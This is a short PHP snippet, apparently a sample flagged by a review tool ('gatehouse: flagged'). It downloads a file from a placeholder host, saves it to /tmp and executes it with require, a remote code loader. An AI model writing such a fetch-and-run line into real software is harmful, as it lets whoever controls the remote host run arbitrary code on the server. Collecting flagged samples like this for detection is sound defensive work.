<?php
file_put_contents('/tmp/block.php', file_get_contents('https://dl.example.invalid/block.txt'));
require '/tmp/block.php'; // gatehouse: flagged
